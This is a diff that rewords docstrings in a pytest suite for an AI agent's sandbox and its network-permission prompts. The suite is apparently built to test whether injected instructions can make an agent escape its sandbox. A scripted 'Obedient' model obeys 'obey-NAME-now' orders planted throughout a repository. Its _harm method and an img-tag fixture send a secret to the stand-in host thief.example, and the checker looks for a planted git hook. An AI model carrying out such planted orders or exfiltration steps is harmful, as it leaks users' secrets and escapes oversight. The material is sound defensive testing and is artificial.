@@ -1,8 +1,8 @@
-"""What a model can do that obeys whatever it reads; and what usual work is asked about.
+"""What a model achieves that obeys everything it reads; and which questions ordinary work causes.
 
-The model is scripted: it carries out each order `obey-NAME-now` that stands anywhere in a
-request, by the next of the ways out that it knows. So this shows the wall and the questions, and no
-model's judgement.
+The model is scripted: it executes each instruction `obey-NAME-now` that appears anywhere in a
+request, by the next of the ways out that it knows. So this tests the sandbox and the questions,
+not a model's judgment.
 """
 
 import itertools
@@ -30,7 +30,7 @@ from tests.server import Call, Message, Request, call, calls, text
 
 pytestmark = pytest.mark.sandboxed
 BY_HOST = pytest.mark.sandboxes("bubblewrap")
-"""For tests of questions about one host of a program: Landlock restricts ports, not hosts."""
+"""For questions about a single host of a program: Landlock restricts ports, not hosts."""
 
 
 SECRET = "hunter2"
@@ -236,9 +236,9 @@ FREE_IN_A_REPOSITORY = [
 
 
 class Obedient:
-    """Does what it is told, wherever it reads it, once; else what the script says.
+    """Follows each instruction once, wherever it reads it; otherwise follows the script.
 
-    It begins with the script's first call: what a run does before it has read anything from outside
+    It starts with the script's first call: what a run does before it has read anything from outside
     is not held back.
     """
 
@@ -258,7 +258,7 @@ class Obedient:
         return calls(self.script.pop(0)) if self.script else text("Done.")
 
     def _harm(self, name: str, turn: int) -> Call:
-        """Run something outside, overwrite what is protected, send the secret away."""
+        """Run something outside, overwrite protected files, send the secret away."""
         thief = f"thief.example/{name}"
         methods = (
             bash(
@@ -279,7 +279,7 @@ class Obedient:
 
 @pytest.fixture
 def agent(agent: ScriptedAgent, internet: Internet) -> ScriptedAgent:
-    """An agent in a repository with a secret, and beside it a folder that is not its own."""
+    """Provide an agent in a repository with a secret, next to a folder of somebody else."""
     internet.pages.update(PAGES)
     folder = agent.workspace.parent
     (folder / "manus.toml").write_text(settings(internet))
@@ -300,7 +300,7 @@ def settings(internet: Internet, extra: str = "") -> str:
 
 
 def lay_out(workspace: Path) -> None:
-    """A repository in which everything that has a name or a text gives an order."""
+    """Create a repository in which everything with a name or a text contains an instruction."""
     for path, name in IN_FILES.items():
         (workspace / path).parent.mkdir(exist_ok=True)
         (workspace / path).write_text(f"# {order(name)}\n")
@@ -322,9 +322,9 @@ def git(folder: Path, *words: str) -> None:
 async def carried_out(
     agent: ScriptedAgent, script: list[Call], request: str, **settings: Any
 ) -> tuple[set[str], list[str]]:
-    """A run to its end, in which a person says no to all but MCP tools.
+    """Complete a run in which a person rejects everything except MCP tools.
 
-    What the model obeyed, and the questions that were answered by no.
+    Return what the model obeyed, and the rejected questions.
     """
     model = Obedient(agent.workspace.parent / "outside", script)
     agent.server.always(model)
@@ -340,7 +340,7 @@ async def carried_out(
 
 
 def harm(agent: ScriptedAgent, internet: Internet) -> list[str]:
-    """Every trace of something that should not have happened."""
+    """Return every trace of something that should not have happened."""
     outside = [path.name for path in (agent.workspace.parent / "outside").iterdir()]
     leaked = [arrival for arrival in internet.arrived if "thief" in arrival or SECRET in arrival]
     hook = agent.workspace / ".git" / "hooks" / "post-commit"
@@ -453,7 +453,7 @@ async def test_an_answer_about_a_host_is_for_a_kind_of_access_or_all_until_the_r
     stop_reason: str,
     arrived: list[str],
 ) -> None:
-    """What a program wants is held, and asked about when it is called again."""
+    """A program's connection is held back, and asked about when the call is repeated."""
     internet.pages = BENIGN
     waiting = await agent.run(SEARCH, *expected, request="All about kites.")
     assert "new.example" in waiting.output
@@ -471,7 +471,7 @@ async def test_an_answer_about_a_host_is_for_a_kind_of_access_or_all_until_the_r
 async def test_behind_landlock_the_first_connection_of_a_program_is_asked_about(
     agent: ScriptedAgent, internet: Internet, sandbox_kind: Kind
 ) -> None:
-    """Also to a host that the user has named; after a yes others are reached as elsewhere."""
+    """Also to a host that the user has named; after a yes others are reachable as elsewhere."""
     internet.pages = BENIGN
     fetch, other = (bash(f"curl -s http://docs.example/{page}") for page in ("manual", "search"))
     agent.server.script(SEARCH, fetch, fetch, other, text("Done."))
@@ -489,7 +489,7 @@ async def test_behind_landlock_the_first_connection_of_a_program_is_asked_about(
 async def test_behind_landlock_a_no_is_for_the_network_of_all_programs(
     agent: ScriptedAgent, internet: Internet, sandbox_kind: Kind
 ) -> None:
-    """It is asked about once a run, wherever the programs after it connect to."""
+    """The question is asked once per run, wherever later programs connect to."""
     internet.pages = BENIGN
     fetch = bash("curl -s http://docs.example/manual")
     other = bash("curl -s http://new.example/search")
@@ -520,7 +520,7 @@ async def test_another_program_is_not_asked_about(agent: ScriptedAgent, internet
 async def test_a_page_that_came_by_itself_is_one_that_was_read(
     agent: ScriptedAgent, internet: Internet
 ) -> None:
-    """It is only shown before a step; no call has led there."""
+    """It is only shown before a step; no call navigated there."""
     on = "<p>still here</p><script>setTimeout(() => location = 'http://news.example/plain', 1500)"
     agent.workspace.joinpath("on.html").write_text(f"{on}</script>")
     internet.pages["news.example/plain"] = "<p>far away</p>"
@@ -544,7 +544,7 @@ async def test_a_page_that_came_by_itself_is_one_that_was_read(
 async def test_pages_of_its_own_send_nothing_along(
     agent: ScriptedAgent, internet: Internet
 ) -> None:
-    """Of a file, and of a server of its own."""
+    """Neither those of a file nor those of its own server."""
     file = agent.workspace.parent / "manus.toml"
     file.write_text(file.read_text().replace("[egress]", '[egress]\nallow_private = ["localhost"]'))
     leak = f'<img src="http://thief.example/{SECRET}"><p>my page</p>'
